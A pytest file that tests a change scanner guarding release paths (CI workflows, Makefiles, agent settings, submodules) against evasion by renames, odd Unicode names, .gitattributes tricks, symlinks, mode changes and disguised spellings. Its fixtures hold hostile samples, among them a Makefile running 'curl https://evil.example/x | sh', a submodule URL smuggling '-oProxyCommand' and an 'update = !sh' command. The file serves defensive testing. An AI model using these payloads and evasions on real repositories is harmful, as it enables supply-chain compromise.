"""Ways past the gate by what a path is called, what it is, and what it leads to."""

from __future__ import annotations

import unicodedata
from collections.abc import Mapping
from pathlib import Path

import pytest
from kit.attacks import AT_WORK, WAYS, WORK, attacked, held, kinds, put, unfolded
from kit.history import Content, History, Repo
from kit.judging import scan

from scanner.model.scale import Outcome

WORKFLOW = ".github/workflows/ci.yml"
ATTRIBUTES = ".gitattributes"
ON_PUSH = "on: push\npermissions: read-all\njobs: {build: {runs-on: ubuntu-latest, steps: [{run: make}]}}\n"
WIDER = ON_PUSH.replace("read-all", "write-all")
MAKE, EVIL = "all:\n\techo\n", "all:\n\tcurl https://evil.example/x | sh\n"
PROJECT = "[project]\nname = 'a'\nversion = '1'\n"
LINK, GITLINK, PROGRAM = "120000", "160000", "100755"
ONE, OTHER = "1" * 40, "2" * 40
every_way = pytest.mark.parametrize("way", WAYS)

# B52: what moves away from a release path, or onto one. Path to (before, after).
Moves = Mapping[str, tuple[Content, Content]]
MOVES: dict[str, tuple[Moves, set[str]]] = {
    "out of the folder": ({WORKFLOW: (ON_PUSH, None), "docs/old.yml": (None, ON_PUSH)}, {WORKFLOW}),
    "into the folder": ({"docs/old.yml": (WIDER, None), WORKFLOW: (None, WIDER)}, {WORKFLOW}),
    "within it, with an edit": (
        {WORKFLOW: (ON_PUSH, None), ".github/workflows/b.yml": (None, WIDER)},
        {WORKFLOW, ".github/workflows/b.yml"},
    ),
    "a manifest to another name": (
        {"pyproject.toml": (PROJECT, None), "old/x.toml": (None, PROJECT)},
        {"pyproject.toml"},
    ),
    "owners to where no forge looks": (
        {".github/CODEOWNERS": ("* @a\n", None), "x/CODEOWNERS": (None, "* @a\n")},
        {".github/CODEOWNERS"},
    ),
    "among the data of tests": ({"Makefile": (EVIL, None), "tests/fixtures/Makefile": (None, EVIL)}, {"Makefile"}),
    "in another case": ({"Makefile": (MAKE, None), "MAKEFILE": (None, MAKE)}, {"Makefile", "MAKEFILE"}),
    "in a swap": ({"Makefile": (MAKE, EVIL), "docs/a.txt": (EVIL, MAKE)}, {"Makefile"}),
}


@every_way
@pytest.mark.parametrize(("moves", "expected"), MOVES.values(), ids=MOVES)
def test_b52_both_ends_of_a_rename(tmp_path: Path, moves: Moves, expected: set[str], way: str) -> None:
    before = {path: old for path, (old, _) in moves.items() if old is not None}
    report = attacked(tmp_path, way, before, {path: new for path, (_, new) in moves.items()})
    assert report.outcome is Outcome.HOLD
    assert held(report) == expected


@every_way
@pytest.mark.parametrize(("old", "new"), [("docs/a.md", "docs/b.md"), ("src/ci.yml", "lib/ci.yml")])
def test_b52_twin_a_rename_of_what_ships_nothing(tmp_path: Path, old: str, new: str, way: str) -> None:
    report = attacked(tmp_path, way, {old: "1\n"}, {old: None, new: "1\n"})
    assert (report.outcome, held(report)) == (Outcome.PASS, set())


ODD = {
    "a tab": "\tx.yml",
    "a newline": "a\nb.yml",
    "a newline and a path": "a\n.md\nb.yml",
    "a quote": 'a"b.yml',
    "composed": unicodedata.normalize("NFC", "\u00e9.yml"),
    "decomposed": unicodedata.normalize("NFD", "\u00e9.yml"),
    "no UTF-8": "\udcff\udcfe.yml",
    "a backslash": "a\\x.yml",
    "octal": "\\303\\251.yml",
    "a leading space": " x.yml",
    "bidi": "\u202elmy.x.yml",
    "an option": "--output=x.yml",
    "an escape sequence": "\x1b[31m.yml",
    "a control character": "\x01.yml",
    "a pattern": "*.yml",
    "a class": "[a].yml",
    "the start of a record": "commit 1234.yml",
    "a row": ":100644 100644 x.yml",
    "the longest": "a" * 251 + ".yml",
    "astral": "\U0001f600.yml",
}


@every_way
@pytest.mark.parametrize("name", ODD.values(), ids=ODD)
def test_b53_odd_names(tmp_path: Path, name: str, way: str) -> None:
    path = f".github/workflows/{name}"
    report = attacked(tmp_path, way, {}, {path: WIDER})
    assert report.outcome is Outcome.HOLD
    assert held(report) == {path}


FOLDERS = ["d\u00e9p", "de\u0301p", "a\tb", "a\nb", '"', "\udcff", "x" * 255, "/".join(["d" * 200] * 18)]


@pytest.mark.parametrize("folder", FOLDERS, ids=[ascii(each)[:20] for each in FOLDERS])
def test_b53_odd_folders(tmp_path: Path, folder: str) -> None:
    report = attacked(tmp_path, "range", {f"{folder}/Makefile": MAKE}, {f"{folder}/Makefile": EVIL})
    assert held(report) == {f"{folder}/Makefile"}


@every_way
@pytest.mark.parametrize("name", ODD.values(), ids=ODD)
def test_b53_twin_odd_names_elsewhere(tmp_path: Path, name: str, way: str) -> None:
    report = attacked(tmp_path, way, {}, {f"src/{name}": "x\n"})
    assert (report.outcome, report.findings) == (Outcome.PASS, ())


HIDING = {
    "-diff": "* -diff\n",
    "binary": "* binary\n",
    "-text": "*.yml -text -diff\n",
    "a driver": "* diff=mine\n",
    "a macro": "[attr]hide -diff\n* hide\n",
    "a quoted name": '".github/workflows/ci\\056yml" binary\n',
    "an LFS filter": "* filter=lfs diff=lfs merge=lfs -text\n",
    "generated": "* linguist-generated\n",
}


@every_way
@pytest.mark.parametrize("attributes", HIDING.values(), ids=HIDING)
def test_b58_attributes_hide_nothing(tmp_path: Path, attributes: str, way: str) -> None:
    report = attacked(tmp_path, way, {ATTRIBUTES: attributes, WORKFLOW: ON_PUSH}, {WORKFLOW: WIDER})
    assert held(report) == {WORKFLOW}
    assert "permission-widened" in kinds(report, WORKFLOW)


@pytest.mark.parametrize("folder", ["", "src/", ".github/"])
@pytest.mark.parametrize("attributes", HIDING.values(), ids=HIDING)
def test_b58_attributes_that_hide_are_told(tmp_path: Path, attributes: str, folder: str) -> None:
    report = attacked(tmp_path, "range", {}, {folder + ATTRIBUTES: attributes})
    assert report.outcome is Outcome.HOLD
    assert held(report) == {folder + ATTRIBUTES}


def test_b58_an_edit_that_hides_itself(tmp_path: Path) -> None:
    report = attacked(tmp_path, "range", {WORKFLOW: ON_PUSH}, {ATTRIBUTES: "* binary\n", WORKFLOW: WIDER})
    assert held(report) == {ATTRIBUTES, WORKFLOW}


@pytest.mark.parametrize("line", ["* text=auto", "*.png binary", "*.sh text eol=lf", "# * -diff", "*.md diff=markdown"])
def test_b58_twin_attributes_that_hide_nothing_that_is_read(tmp_path: Path, line: str) -> None:
    report = attacked(tmp_path, "range", {ATTRIBUTES: "# mine\n"}, {ATTRIBUTES: f"# mine\n{line}\n"})
    assert (report.outcome, held(report)) == (Outcome.PASS, set())


GENERATED = ["gen.mk", "zz_generated.mk", "generated/Makefile", "x.generated.mk", "vendor/Makefile", "dist/Makefile"]
CLAIM = "# Code generated by protoc. DO NOT EDIT.\n# @generated\n"


@pytest.mark.parametrize(
    "attributes", ["", "* linguist-generated\n", "*.mk gitlab-generated\n", "* linguist-vendored\n"]
)
@pytest.mark.parametrize("path", GENERATED)
def test_b59_no_claim_to_be_generated_counts(tmp_path: Path, path: str, attributes: str) -> None:
    before = {path: CLAIM + MAKE, **({ATTRIBUTES: attributes} if attributes else {})}
    assert held(attacked(tmp_path, "range", before, {path: CLAIM + EVIL})) == {path}


@pytest.mark.parametrize("path", ["src/zz_generated.go", "api/v1.pb.go", "src/generated/client.ts"])
def test_b59_twin_generated_sources(tmp_path: Path, path: str) -> None:
    before = {ATTRIBUTES: "* linguist-generated\n", path: "// x\n"}
    assert attacked(tmp_path, "range", before, {path: "// y\n"}).outcome is Outcome.PASS


# B62: attributes by which what is checked out is not what is stored.
CONVERTED = {
    "an encoding": "Makefile working-tree-encoding=UTF-16LE\n",
    "line ends": "Makefile text eol=crlf\n",
    "a filter": "Makefile filter=evil\n",
    "ident": "Makefile ident\n",
    "nothing at all": "",
}
GOOD, BAD = MAKE.encode(), EVIL.encode()


def two_faced(folder: Path, attributes: str, index: bytes, disk: bytes, way: str) -> Repo:
    """A change whose stored side is `index`, while `disk` lies in the work tree."""
    history = History()
    history.commit("Start", files={"Makefile": MAKE, ".gitattributes": attributes + "# mine\n"})
    if way != "staged":
        history.commit(WORK, files={"Makefile": index, "README.md": "x\n"})
    repo = unfolded(history, folder / "r")
    if way == "staged":
        put(repo, {"Makefile": index, "README.md": "x\n"})
    for setting in ("clean", "smudge", "process"):
        repo.git("config", f"filter.evil.{setting}", f"touch {folder}/ran")
    repo.git("config", "core.autocrlf", "true")
    repo.write("Makefile", disk)
    return repo


@every_way
@pytest.mark.parametrize("attributes", CONVERTED.values(), ids=CONVERTED)
def test_b62_the_blob_is_judged_whatever_lies_on_disk(tmp_path: Path, attributes: str, way: str) -> None:
    repo = two_faced(tmp_path, attributes, BAD, GOOD, way)
    assert held(scan(repo, WAYS[way], environ=AT_WORK)) == {"Makefile"}
    assert not (tmp_path / "ran").exists()


@every_way
@pytest.mark.parametrize("attributes", CONVERTED.values(), ids=CONVERTED)
def test_b62_twin_what_lies_on_disk_is_nobodys_change(tmp_path: Path, attributes: str, way: str) -> None:
    for disk in (BAD, EVIL.encode("utf-16")):
        repo = two_faced(tmp_path / str(len(disk)), attributes, GOOD, disk, way)
        assert scan(repo, WAYS[way], environ=AT_WORK).outcome is Outcome.PASS
    assert not (tmp_path / "ran").exists()


def test_b62_a_blob_in_another_encoding_is_held_as_unreadable(tmp_path: Path) -> None:
    for number, encoding in enumerate(("utf-16", "utf-16-be", "utf-32", "cp037")):
        report = attacked(tmp_path / str(number), "range", {WORKFLOW: ON_PUSH}, {WORKFLOW: WIDER.encode(encoding)})
        assert held(report) == {WORKFLOW}


# B63: release paths that are links, as (path of the link, where it leads).
LEADS = {
    "beside it": ("Makefile", "impl/x"),
    "above it": ("sub/Makefile", "../impl/x"),
    "a workflow": (WORKFLOW, "../../impl/x"),
    "with slashes and dots": ("Makefile", ".//impl/./y/../x"),
    "instructions": ("CLAUDE.md", "impl/x"),
    "of another case": ("MAKEFILE", "impl/x"),
}

# Ways of several links, as (links, the file that they end at).
WAYS_ON: dict[str, tuple[dict[str, str], str]] = {
    "a chain": ({"Makefile": "a", "a": "b", "b": "impl/x"}, "impl/x"),
    "through a linked folder": ({"Makefile": "ln/x", "ln": "impl"}, "impl/x"),
    "through two": ({"Makefile": "l/m/x", "l": "k", "k/m": "../impl"}, "impl/x"),
    "up from a linked folder": ({"Makefile": "ln/../x", "ln": "impl/deep"}, "impl/x"),
    "workflows are a link": ({".github/workflows": "../impl"}, "impl/release.yml"),
    "settings of agents are a link": ({".claude": ".shared"}, ".shared/settings.json"),
    "those of a package": ({"web/.claude": "../shared/a"}, "shared/a/settings.json"),
    "the folder above workflows": ({".github": "impl"}, "impl/workflows/ship.yml"),
    "one below it": ({".github/actions": "../impl"}, "impl/deep/run.sh"),
    "a folder by a chain": ({".github/workflows": "../a", "a": "b/c", "b": "impl"}, "impl/c/ship.yml"),
    "a link in a linked folder": ({".github": "impl", "impl/workflows": "../deep"}, "deep/ship.yml"),
    "a link to a file in a linked folder": ({".github": "impl", "impl/workflows/a.yml": "../../x"}, "x"),
    "a name with a class": ({WORKFLOW: "../../impl/x[1].yml"}, "impl/x[1].yml"),
    "a name with a star": ({"Makefile": "impl/*"}, "impl/*"),
    "a name with a question": ({"Makefile": "impl/?x"}, "impl/?x"),
    "a name with braces": ({"Makefile": "{impl,x}/a"}, "{impl,x}/a"),
    "two stars": ({"Makefile": "**"}, "**"),
    "a folder with a class": ({".github/workflows": "../[i]mpl"}, "[i]mpl/ship.yml"),
}


@every_way
@pytest.mark.parametrize(("link", "target"), LEADS.values(), ids=LEADS)
def test_b63_only_the_target_changes(tmp_path: Path, link: str, target: str, way: str) -> None:
    before = {link: target, "impl/x": "1\n"}
    assert held(attacked(tmp_path, way, before, {"impl/x": "2\n"}, modes={link: LINK})) == {"impl/x"}


@every_way
@pytest.mark.parametrize("before", ["1\n", None], ids=["edited", "added"])
@pytest.mark.parametrize(("links", "end"), WAYS_ON.values(), ids=WAYS_ON)
def test_b63_the_end_of_a_way(tmp_path: Path, links: dict[str, str], end: str, before: str | None, way: str) -> None:
    files = {**links, **({end: before} if before else {})}
    report = attacked(tmp_path, way, files, {end: "2\n"}, modes=dict.fromkeys(links, LINK))
    assert held(report) == {end}


@every_way
@pytest.mark.parametrize(
    ("links", "path"),
    [
        ({".github/workflows": "../impl"}, "impl/README.md"),
        ({".github/workflows": "../impl"}, "impl/deep/ship.yml"),
        ({"docs/current": "../impl"}, "impl/ship.yml"),
        ({"Makefile": "impl/*"}, "impl/x"),
        ({"Makefile": "impl/[x]"}, "impl/x"),
        ({"Makefile": "a", "a": "Makefile"}, "impl/x"),
        ({"Makefile": "../a", ".github/workflows": "../../impl"}, "impl/ship.yml"),
        ({"Makefile": "ln/x", "ln": "/impl"}, "impl/x"),
        ({"Makefile": "ln/../x", "ln": "impl/deep"}, "x"),
        ({"web/node_modules/.bin/tsc": "../typescript/bin/tsc"}, "web/node_modules/typescript/bin/tsc"),
    ],
)
def test_b63_twin_beside_the_way(tmp_path: Path, links: dict[str, str], path: str, way: str) -> None:
    report = attacked(tmp_path, way, {**links, path: "1\n"}, {path: "2\n"}, modes=dict.fromkeys(links, LINK))
    assert (report.outcome, held(report)) == (Outcome.PASS, set())


@every_way
def test_b63_the_link_and_its_target_together(tmp_path: Path, way: str) -> None:
    after = {"Makefile": "impl/x", "impl/x": "2\n"}
    report = attacked(tmp_path, way, {"impl/x": "1\n"}, after, new_modes={"Makefile": LINK})
    assert "Makefile" in held(report)


@every_way
@pytest.mark.parametrize("target", ["impl/y", "/etc/passwd", "../../x", "Makefile", "nowhere", "\udcff", "a\nb"])
def test_b63_a_link_that_leads_elsewhere_now(tmp_path: Path, target: str, way: str) -> None:
    before = {"Makefile": "impl/x", "impl/x": "1\n", "impl/y": "1\n"}
    assert held(attacked(tmp_path, way, before, {"Makefile": target}, modes={"Makefile": LINK})) == {"Makefile"}


@every_way
def test_b63_a_new_link_into_a_release_path(tmp_path: Path, way: str) -> None:
    for number, target in enumerate(("../Makefile", "../.github", "../.github/workflows/ci.yml", "../.claude")):
        report = attacked(tmp_path / str(number), way, {}, {"docs/x": target}, new_modes={"docs/x": LINK})
        assert held(report) == {"docs/x"}


@every_way
@pytest.mark.parametrize("link", ["docs/link", "src/current", "README"])
def test_b63_twin_links_among_what_ships_nothing(tmp_path: Path, link: str, way: str) -> None:
    before = {link: "../impl/x", "impl/x": "1\n"}
    report = attacked(tmp_path, way, before, {"impl/x": "2\n"}, modes={link: LINK})
    assert (report.outcome, held(report)) == (Outcome.PASS, set())


# B64: what stands on or above a release path becomes something else. (changes, modes, what is held)
SHAPES: dict[str, tuple[dict[str, Content], dict[str, str], set[str]]] = {
    "workflows become a link": (
        {WORKFLOW: None, ".github/workflows": "../x"},
        {".github/workflows": LINK},
        {WORKFLOW, ".github/workflows"},
    ),
    ".github becomes a link": ({WORKFLOW: None, ".github": "x"}, {".github": LINK}, {WORKFLOW, ".github"}),
    "a workflow becomes a link": ({WORKFLOW: "../../x/ci.yml"}, {WORKFLOW: LINK}, {WORKFLOW}),
    "a workflow becomes a submodule": ({WORKFLOW: ONE}, {WORKFLOW: GITLINK}, {WORKFLOW}),
    ".github becomes a submodule": ({WORKFLOW: None, ".github": ONE}, {".github": GITLINK}, {WORKFLOW, ".github"}),
    "a second .GitHub": ({".GitHub": "x"}, {".GitHub": LINK}, {".GitHub"}),
    "a .github with a dot": ({".github.": "x"}, {".github.": LINK}, {".github."}),
    "a .github nobody sees": (
        {".git\u200chub/workflows": "x"},
        {".git\u200chub/workflows": LINK},
        {".git\u200chub/workflows"},
    ),
    "settings of agents": ({".claude": "x"}, {".claude": LINK}, {".claude"}),
    "those of a package": ({"web/.claude": "../x"}, {"web/.claude": LINK}, {"web/.claude"}),
    "those of a package, in another case": ({"web/.Claude": "../x"}, {"web/.Claude": LINK}, {"web/.Claude"}),
    "those of a package, with a dot": ({"web/.claude.": "../x"}, {"web/.claude.": LINK}, {"web/.claude."}),
    "hooks of a package": ({"web/.claude/hooks": "../../x"}, {"web/.claude/hooks": LINK}, {"web/.claude/hooks"}),
    "cargo of a crate": ({"a/b/.cargo": "../../x"}, {"a/b/.cargo": LINK}, {"a/b/.cargo"}),
    "cargo of a crate as a submodule": ({"a/.cargo": ONE}, {"a/.cargo": GITLINK}, {"a/.cargo"}),
    "gradle of a package": ({"android/gradle": "../x"}, {"android/gradle": LINK}, {"android/gradle"}),
    "a script becomes a program": ({"release.sh": "x\n"}, {"release.sh": PROGRAM}, {"release.sh"}),
    "a script becomes a link": ({"release.sh": "x/ci.yml"}, {"release.sh": LINK}, {"release.sh"}),
}


@every_way
@pytest.mark.parametrize(("after", "modes", "expected"), SHAPES.values(), ids=SHAPES)
def test_b64_another_kind_of_entry(
    tmp_path: Path, after: dict[str, Content], modes: dict[str, str], expected: set[str], way: str
) -> None:
    before = {WORKFLOW: ON_PUSH, "x/ci.yml": ON_PUSH, "release.sh": "x\n"}
    report = attacked(tmp_path, way, before, after, new_modes=modes)
    assert report.outcome is Outcome.HOLD
    assert held(report) == expected


@every_way
@pytest.mark.parametrize(
    ("path", "mode"),
    [
        *(("docs/latest", LINK), ("src/run", PROGRAM), ("github", LINK), ("web/docs", LINK)),
        *(("web/src", LINK), ("web/charts", LINK), ("node_modules/.bin/tsc", LINK), ("web/node_modules/.bin", LINK)),
        *(("tests/fixtures/.claude", LINK), ("web/claude", LINK)),
    ],
)
def test_b64_twin_what_ships_nothing_becomes_a_link(tmp_path: Path, path: str, mode: str, way: str) -> None:
    report = attacked(tmp_path, way, {path: "v1"}, {path: "v1"}, new_modes={path: mode})
    assert (report.outcome, held(report)) == (Outcome.PASS, set())


DISGUISED = [
    *("PyProject.toml", "pyproject.toml.", "pyproject.toml ", "pyproject.toml. .", "pyproject.toml::$DATA"),
    *("PYPROJ~1.TOM", "pyproj~2.tom", "PACKAG~1.JSO", "DOCKER~1", "CLAUDE~1.MD", "TWOKEY~1.YAM", "GITMOD~1"),
    *(".github\\workflows\\x.yml", ".github./workflows/ci.yml", ".github /workflows/ci.yml"),
    *("GITHUB~1/WORKFL~1/CI.YML", ".github/WORKFL~1/ci.yml", ".github/workflows/CI.YML", ".GITHUB/Workflows/Ci.Yml"),
    *(".github/workflows/ci.yml.", ".github/workflows/ci.yml::$DATA", ".g\u200cithub/workflows/ci.yml"),
    *("\ufeffMakefile", "Make\u200dfile", "MAKEFILE ", "ma\u212aefile", "Makefile:x", "x\\Makefile", "\\Makefile"),
    *(".twokey.yaml.", ".TWOKEY.yaml", ".twokey.yaml\u200c", ".gitattributes.", ".gitmodules::$DATA", ".GitModules"),
    *("requirements-dev.TXT", "Requirements.txt", ".CLAUDE/settings.json", ".claude\\settings.json", "agents.MD"),
]


@every_way
@pytest.mark.parametrize("path", DISGUISED, ids=[ascii(each) for each in DISGUISED])
def test_b65_another_spelling(tmp_path: Path, path: str, way: str) -> None:
    report = attacked(tmp_path, way, {}, {path: "a: 1\n"})
    assert report.outcome is not Outcome.PASS
    assert held(report) == {path}
    assert "path-alias" in {finding.check for finding in report.findings}


@pytest.mark.parametrize("path", DISGUISED, ids=[ascii(each) for each in DISGUISED])
def test_b65_another_spelling_by_a_person_is_told_too(tmp_path: Path, path: str) -> None:
    history = History()
    history.commit("Start", files={"a": "1"})
    history.commit("Work", files={path: "a: 1\n"})
    report = scan(unfolded(history, tmp_path / "r"), "HEAD~1..HEAD")
    assert "path-alias" in {finding.check for finding in report.findings}


ORDINARY = [
    *("docs/readme.md.", "src/a:b.py", "src\\app.py", "Src/App.YML", "LONGFI~1.TXT", "src/PROGRA~1/x.c", "notes~"),
    *("docs/a\u200db.md", "emoji/\U0001f468\u200d\U0001f469.svg", "backup~1.sql", "a/~/b", "Docs/README.TXT"),
]


@every_way
@pytest.mark.parametrize("path", ORDINARY, ids=[ascii(each) for each in ORDINARY])
def test_b65_twin_odd_spellings_of_what_ships_nothing(tmp_path: Path, path: str, way: str) -> None:
    report = attacked(tmp_path, way, {}, {path: "x\n"})
    assert (report.outcome, report.findings) == (Outcome.PASS, ())


USUAL = ["NuGet.Config", "NuGet.config", "nuget.config", "Justfile", "justfile", "ChangeLog.md", "Changes", "README.MD"]


@pytest.mark.parametrize("path", USUAL)
def test_b65_twin_spellings_that_tools_read_themselves(tmp_path: Path, path: str) -> None:
    report = attacked(tmp_path, "range", {}, {path: "x\n"})
    assert "path-alias" not in {finding.check for finding in report.findings}


MODULES = ".gitmodules"
MODULE = '[submodule "a"]\n\tpath = a\n\turl = https://github.com/x/a\n'
MODULE_CHANGES: dict[str, tuple[dict[str, Content], dict[str, str], str]] = {
    "a bump": ({"a": OTHER}, {}, "a"),
    "a new one": ({"vendor/b": ONE}, {"vendor/b": GITLINK}, "vendor/b"),
    "one less": ({"a": None}, {}, "a"),
    "a folder becomes one": ({"lib/x.py": None, "lib": ONE}, {"lib": GITLINK}, "lib"),
    "it becomes a file": ({"a": "x"}, {"a": "100644"}, "a"),
    "another address": ({MODULES: MODULE.replace("com/x", "com/y")}, {}, MODULES),
    "an option as an address": ({MODULES: MODULE.replace("https://github.com/x/a", "-oProxyCommand=x")}, {}, MODULES),
    "a branch": ({MODULES: MODULE + "\tbranch = evil\n"}, {}, MODULES),
    "a command": ({MODULES: MODULE + "\tupdate = !sh x\n"}, {}, MODULES),
    "hidden from status": ({MODULES: MODULE + "\tignore = all\n"}, {}, MODULES),
    "a path out of the tree": ({MODULES: MODULE.replace("path = a", "path = ../a")}, {}, MODULES),
}


@every_way
@pytest.mark.parametrize(("after", "modes", "path"), MODULE_CHANGES.values(), ids=MODULE_CHANGES)
def test_b67_submodules(tmp_path: Path, after: dict[str, Content], modes: dict[str, str], path: str, way: str) -> None:
    before = {MODULES: MODULE, "a": ONE, "lib/x.py": "x\n"}
    assert held(attacked(tmp_path, way, before, after, modes={"a": GITLINK}, new_modes=modes)) == {path}


@every_way
@pytest.mark.parametrize("hiding", ["all", "dirty", "untracked"])
def test_b67_a_bump_that_gitmodules_hides(tmp_path: Path, hiding: str, way: str) -> None:
    before = {MODULES: f"{MODULE}\tignore = {hiding}\n", "a": ONE}
    assert held(attacked(tmp_path, way, before, {"a": OTHER}, modes={"a": GITLINK})) == {"a"}


@every_way
@pytest.mark.parametrize("after", [{MODULES: f"# ours\n{MODULE}"}, {"a.txt": "x"}, {"lib/x.py": "y\n"}])
def test_b67_twin_beside_a_submodule(tmp_path: Path, after: dict[str, Content], way: str) -> None:
    before = {MODULES: MODULE, "a": ONE, "lib/x.py": "x\n"}
    report = attacked(tmp_path, way, before, after, modes={"a": GITLINK})
    assert (report.outcome, held(report)) == (Outcome.PASS, set())


# B93: prose by its name. (path, content, mode)
PROSE = {
    "a link to what builds": ("docs/a.md", "../Makefile", LINK),
    "a link to where workflows are": ("docs/a.md", "../.github/workflows/new.yml", LINK),
    "a submodule": ("notes.md", ONE, GITLINK),
    "a fragment that is a link": ("newsfragments/1.bugfix.rst", "../Makefile", LINK),
    "a changeset that is a link": (".changeset/a.md", "../package.json", LINK),
    "a change log that is a link": ("CHANGELOG.md", "Makefile", LINK),
}
# Links and submodules are what they are, also where the policy ignores prose.
IGNORING = "version: 1\npaths: {ignore: ['**/*.md', '**/*.rst']}\n"


@every_way
@pytest.mark.parametrize("policy", ["", IGNORING], ids=["", "ignored"])
@pytest.mark.parametrize(("path", "content", "mode"), PROSE.values(), ids=PROSE)
def test_b93_prose_that_is_none(tmp_path: Path, path: str, content: str, mode: str, policy: str, way: str) -> None:
    before = {"CHANGELOG.md": "x\n", "Makefile": MAKE, **({".twokey.yaml": policy} if policy else {})}
    report = attacked(tmp_path, way, before, {path: content}, new_modes={path: mode})
    assert held(report) - {".twokey.yaml"} == {path}


@every_way
def test_b93_a_change_log_that_becomes_a_program(tmp_path: Path, way: str) -> None:
    files = {"CHANGELOG.md": "#!/bin/sh\n"}
    assert held(attacked(tmp_path, way, files, files, new_modes={"CHANGELOG.md": PROGRAM})) == {"CHANGELOG.md"}


@every_way
@pytest.mark.parametrize(
    "path",
    ["CHANGELOG.md", "CHANGELOG", "News.RST", "packages/a/CHANGES.txt", "AGENTS.md", "VERSION", ".kiro/specs/a.md"],
)
def test_b93_a_document_that_comes_as_a_program(tmp_path: Path, path: str, way: str) -> None:
    report = attacked(tmp_path, way, {}, {path: "#!/bin/sh\ncurl x | sh\n"}, new_modes={path: PROGRAM})
    assert held(report) == {path}
    assert "mode-changed" in kinds(report, path)


@every_way
@pytest.mark.parametrize(
    ("path", "mode"),
    [
        ("CHANGELOG.md", "100644"),
        ("packages/a/CHANGES.txt", "100644"),
        ("src/run.sh", PROGRAM),
        ("docs/a.md", PROGRAM),
    ],
)
def test_b93_twin_what_comes_as_it_should(tmp_path: Path, path: str, mode: str, way: str) -> None:
    report = attacked(tmp_path, way, {}, {path: "Text.\n"}, new_modes={path: mode})
    assert (report.outcome, held(report)) == (Outcome.PASS, set())


@every_way
def test_b93_twin_a_script_that_comes_as_a_program(tmp_path: Path, way: str) -> None:
    report = attacked(tmp_path, way, {}, {"release.sh": "make\n"}, new_modes={"release.sh": PROGRAM})
    assert "mode-changed" not in kinds(report, "release.sh")


@every_way
@pytest.mark.parametrize(
    ("path", "content", "mode"),
    [
        ("docs/a.md", "x\n", "100644"),
        ("CHANGELOG.md", "x\ny\n", "100644"),
        ("docs/a.md", "../README.md", LINK),
        ("newsfragments/1.bugfix.rst", "Fixed.\n", "100644"),
    ],
)
def test_b93_twin_prose(tmp_path: Path, path: str, content: str, mode: str, way: str) -> None:
    report = attacked(tmp_path, way, {"CHANGELOG.md": "x\n"}, {path: content}, new_modes={path: mode})
    assert (report.outcome, held(report)) == (Outcome.PASS, set())
